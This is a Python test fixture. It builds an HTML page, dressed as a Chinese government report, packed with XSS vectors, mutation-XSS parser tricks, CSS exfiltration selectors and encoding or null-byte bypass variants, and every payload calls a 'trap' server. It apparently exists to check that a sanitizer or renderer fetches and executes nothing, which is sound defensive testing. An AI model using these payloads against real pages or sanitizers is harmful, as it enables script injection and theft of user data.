"""A page that tries everything: whoever runs or loads anything of it asks `TRAP`, or says so in the title."""

from collections.abc import Iterator

PWNED = "fetch('{trap}/script'); document.title = 'pwned'"

PAGE = (
    """<!doctype html>
<html onload="{run}" manifest="{trap}/manifest"><head>
<meta charset="utf-8"><title>某某市样本局2022年政府信息公开工作年度报告</title>
<base href="{trap}/base/"><base target="_top">
<meta http-equiv="refresh" content="0; url={trap}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data: blob:">
<meta http-equiv="Set-Cookie" content="a=b">
<link rel="stylesheet" href="{trap}/link.css"><link rel="prefetch" href="{trap}/prefetch">
<link rel="preload" as="image" href="{trap}/preload"><link rel="icon" href="{trap}/icon">
<link rel="dns-prefetch" href="{trap}"><link rel="modulepreload" href="{trap}/module.js">
<style>@import url("{trap}/import.css"); body {{ background: url({trap}/background) }}
td[title^="1"] {{ background: url({trap}/exfiltrated?1) }} @font-face {{ font-family: x; src: url({trap}/font) }}</style>
<script>{run}</script><script src="{trap}/script.js"></script><script type="module">{run}</script>
</head><body onload="{run}" background="{trap}/body" onfocus="{run}">
<p>办理情况</p>
<table background="{trap}/table"><tr><td style="background: url({trap}/style)" onmouseover="{run}" title="17">17</td></tr></table>
<a href="javascript:{run}">甲</a> <a href="data:text/html,<script>{run}</script>">乙</a>
<a href=" java&#10;script:{run}">丙</a> <a href="{trap}/plain" ping="{trap}/ping" target="_blank" download>丁</a>
<area href="javascript:{run}"><map name="m"><area shape="default" href="{trap}/area"></map>
<img src="{trap}/img" onerror="{run}" srcset="{trap}/srcset 2x"><img src=x onerror={run_bare}>
<picture><source srcset="{trap}/source"><img src="{trap}/picture"></picture>
<input type="image" src="{trap}/input" autofocus onfocus="{run}"><video src="{trap}/video" poster="{trap}/poster" autoplay></video>
<audio src="{trap}/audio" autoplay onerror="{run}"></audio><track src="{trap}/track">
<iframe src="{trap}/iframe"></iframe><iframe srcdoc="<script>{run}</script><img src={trap}/srcdoc>"></iframe>
<iframe src="javascript:{run}"></iframe><object data="{trap}/object"><embed src="{trap}/embed"></object>
<applet code="{trap}/applet"></applet><bgsound src="{trap}/sound"><portal src="{trap}/portal"></portal>
<form action="{trap}/form" id="f"><input name="q" value="x"><button formaction="{trap}/formaction">提交</button></form>
<button form="f" formaction="javascript:{run}">提交</button><isindex action="{trap}/isindex">
<svg onload="{run}"><script>{run}</script><image href="{trap}/svg" xlink:href="{trap}/xlink"/><use href="{trap}/use#x"/>
<animate attributeName="href" values="javascript:{run}"/><foreignObject><iframe src="{trap}/foreign"></iframe></foreignObject>
<a xlink:href="javascript:{run}"><text>戊</text></a></svg>
<math href="javascript:{run}"><maction actiontype="statusline#{trap}/math" xlink:href="javascript:{run}">己</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run_bare}&gt;"></table></mtext></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={run_bare} src>"></form>
<svg></p><style><a id="</style><img src=1 onerror={run_bare}>"></style></svg>
<noscript><p title="</noscript><img src={trap}/noscript onerror={run_bare}>"></noscript>
<template shadowrootmode="open"><script>{run}</script><img src="{trap}/shadow"></template>
<template><img src="{trap}/template"></template><textarea></textarea><img src={trap}/textarea></textarea>
<title></title><img src={trap}/title onerror={run_bare}></title><xmp></xmp><script>{run}</script></xmp>
<noembed><img src={trap}/noembed></noembed><noframes><frame src="{trap}/frame"></noframes>
<marquee onstart="{run}">庚</marquee><details open ontoggle="{run}"><summary>辛</summary></details>
<div contenteditable onfocus="{run}" autofocus tabindex="0">壬</div><dialog open oncancel="{run}">癸</dialog>
<p style="animation: x 1s" onanimationstart="{run}">子</p><link rel="stylesheet" href="data:text/css,*{{background:url({trap}/datacss)}}">
<!--[if IE]><script>{run}</script><![endif]--><![CDATA[<script>{run}</script>]]><?xml-stylesheet href="{trap}/xsl"?>
<x-y onclick="{run}">丑</x-y><o:p onclick="{run}">寅</o:p><img/src="{trap}/slash"/onerror={run_bare}>
<<script>{run}//<</script><img """
    + '"""'
    + """><script>{run}</script>"><img src="{trap}/quotes" alt='"><script>{run}</script>'>
</td></tr></table></div></main></body></html><script>{run}</script><img src="{trap}/after" onerror="{run}">
<frameset><frame src="{trap}/frameset"><frame src="javascript:{run}"></frameset><plaintext><script>{run}</script>"""
)


def variants(trap: str) -> Iterator[bytes]:
    """Yield the page, and what becomes of it cut, in other letters and in other bytes.

    Args:
        trap: Address of a server that nobody may ask.
    """
    run = PWNED.format(trap=trap)
    text = PAGE.format(trap=trap, run=run, run_bare="document.title='pwned'")
    yield text.encode()
    yield text.encode("gb18030")
    yield b"\xef\xbb\xbf" + text.encode()
    yield text.replace("<table", "<svg><table").encode()
    yield text.replace("<body", "<body><math><mtext").encode()
    yield (
        text.replace("<script", "<ScRiPt\x0c").replace("<img", "<IMG\t").replace("<svg", "<SVG\x00").encode()
    )
    yield text.replace("\n", "\r\x00\n", 20).encode()
    middle = text.index("<noscript>")
    yield text[:middle].encode()
    yield text[:middle].encode() + b"\xff\xfe<\xc0\xbcscript>" + text[middle:].encode()
    yield ("<div>" * 1500 + text).encode()
    yield ("<p>x</html>" + text).encode()
